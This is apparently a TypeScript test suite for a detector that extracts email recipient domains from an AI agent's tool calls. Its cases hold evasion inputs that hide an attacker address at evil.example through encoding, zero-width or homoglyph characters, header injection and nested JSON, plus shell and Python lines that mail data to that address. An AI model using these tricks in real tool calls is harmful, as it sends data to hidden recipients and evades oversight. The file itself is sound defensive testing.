import { describe, expect, test } from "vitest"
import { factsOf } from "./facts.ts"

const domainsOf = (input: unknown, tool = "send_email"): readonly string[] => [
  ...new Set(
    factsOf({ tool, input })
      .emails.filter(({ recipient }) => recipient)
      .map(({ domain }) => domain),
  ),
]

const cases: readonly (readonly [why: string, input: unknown, domains: readonly string[]])[] = [
  ["a plain address", { to: "bob@acme.example" }, ["acme.example"]],
  ["capitals", { to: "Bob@ACME.Example" }, ["acme.example"]],
  ["a display name", { to: "Bob Roe <bob@acme.example>" }, ["acme.example"]],
  ["a display name that is an address", { to: '"bob@acme.example" <eve@evil.example>' }, ["evil.example"]],
  ["a list with commas", { to: "a@x.example, b@y.example" }, ["x.example", "y.example"]],
  ["a list with semicolons", { to: "a@x.example;b@y.example" }, ["x.example", "y.example"]],
  ["a list of texts", { to: ["a@x.example", "b@y.example"] }, ["x.example", "y.example"]],
  ["copies", { to: "a@x.example", cc: "b@y.example", bcc: ["c@z.example"] }, ["x.example", "y.example", "z.example"]],
  ["a plus address", { to: "bob+news@acme.example" }, ["acme.example"]],
  ["a trailing dot", { to: "bob@acme.example." }, ["acme.example"]],
  ["a domain below another", { to: "bob@acme.example.evil.example" }, ["acme.example.evil.example"]],
  ["two at signs", { to: "bob@acme.example@evil.example" }, ["acme.example", "evil.example"]],
  ["routing by percent", { to: "eve%evil.example@acme.example" }, ["acme.example", "evil.example"]],
  ["routing by exclamation mark", { to: "evil.example!eve@acme.example" }, ["acme.example", "evil.example"]],
  ["a quoted local part", { to: '"eve roe"@evil.example' }, ["evil.example"]],
  ["an address literal", { to: "eve@[192.0.2.1]" }, ["[192.0.2.1]"]],
  ["a comment inside", { to: "eve(home)@evil.example" }, ["evil.example"]],
  ["blanks round the sign", { to: "eve @ evil . example" }, ["evil.example"]],
  ["written out in brackets", { to: "eve [at] evil [dot] example" }, ["evil.example"]],
  ["written out in words", { to: "eve at evil dot example" }, ["evil.example"]],
  ["percent-encoded", { to: "eve%40evil.example" }, ["evil.example"]],
  ["percent-encoded twice", { to: "eve%2540evil.example" }, ["evil.example"]],
  ["an entity", { to: "eve&#64;evil.example" }, ["evil.example"]],
  ["a named entity", { to: "eve&commat;evil.example" }, ["evil.example"]],
  ["an escape", { to: "eve\\u0040evil.example" }, ["evil.example"]],
  ["base64", { to: btoa("eve@evil.example") }, ["evil.example"]],
  ["hexadecimal", { to: "657665406576696c2e6578616d706c65" }, ["evil.example"]],
  ["a mailto address", { to: "mailto:bob@acme.example?bcc=eve@evil.example" }, ["acme.example", "evil.example"]],
  ["characters of no width", { to: "eve@ev\u200bil.exam\u2060ple" }, ["evil.example"]],
  ["full-width signs", { to: "eve＠evil．example" }, ["evil.example"]],
  ["an ideographic stop", { to: "eve@evil。example" }, ["evil.example"]],
  ["JSON in a text", { payload: '{"to":"eve@evil.example"}' }, ["evil.example"]],
  ["JSON in JSON in a text", { payload: JSON.stringify(JSON.stringify({ to: "eve@evil.example" })) }, ["evil.example"]],
  [
    "a nested shape",
    { message: { toRecipients: [{ emailAddress: { address: "eve@evil.example" } }] } },
    ["evil.example"],
  ],
  [
    "a header within the recipient",
    { to: "ann@acme.example\r\nBcc: eve@evil.example" },
    ["acme.example", "evil.example"],
  ],
  ["a header within the subject", { subject: "hi\r\nBcc: eve@evil.example" }, ["evil.example"]],
  ["a group", { to: "Friends: eve@evil.example, ann@acme.example;" }, ["acme.example", "evil.example"]],
  ["names and values apart", { fields: [{ name: "to", value: "eve@evil.example" }] }, ["evil.example"]],
  ["an address as a key", { "eve@evil.example": true }, ["evil.example"]],
  ["a whole message", { raw: "From: a@acme.example\nTo: eve@evil.example\nSubject: x\n\nhello" }, ["evil.example"]],
  [
    "a whole message in base64",
    { raw: btoa("From: a@acme.example\nBcc: eve@evil.example\nSubject: x\n\nhello") },
    ["evil.example"],
  ],
  ["an address in the text", { to: "bob@acme.example", body: "ask eve@evil.example" }, ["acme.example"]],
  ["the sender", { from: "eve@evil.example", to: "bob@acme.example" }, ["acme.example"]],
  ["a field of no known name", { who: "eve@evil.example" }, ["evil.example"]],
  ["nothing at all", {}, []],
]

describe("recipients of a message", () => {
  test.each(cases)("%s", (_why, input, domains) => {
    expect([...domainsOf(input)].sort()).toEqual([...domains].sort())
  })

  test("a mail program in a shell names them too", () => {
    expect(domainsOf({ command: "echo hi | mail -s hello eve@evil.example" }, "bash")).toEqual(["evil.example"])
    expect(domainsOf({ command: "curl --url smtp://m.example --mail-rcpt eve@evil.example -T m" }, "bash")).toEqual([
      "evil.example",
    ])
    expect(domainsOf({ code: "server.sendmail('a@acme.example', 'eve@evil.example', text)" }, "python")).toEqual([
      "acme.example",
      "evil.example",
    ])
    expect(domainsOf({ command: "git log --author=eve@evil.example" }, "bash")).toEqual([])
  })

  test("letters of another script make another domain, and are told", () => {
    const { emails, marks } = factsOf({ tool: "send_email", input: { to: "bob@\u0430cme.example" } })
    expect(emails).toEqual([
      {
        address: "bob@xn--cme-5cd.example",
        domain: "xn--cme-5cd.example",
        recipient: true,
        field: true,
        suspect: true,
      },
    ])
    expect(marks.has("look-alike")).toBe(true)
  })

  test("someone named without an address is said to be unresolved", () => {
    expect(factsOf({ tool: "send_email", input: { to: "our lawyer" } }).unresolvedRecipients).toBe(true)
    expect(factsOf({ tool: "send_email", input: { to: "bob@acme.example" } }).unresolvedRecipients).toBe(false)
  })
})
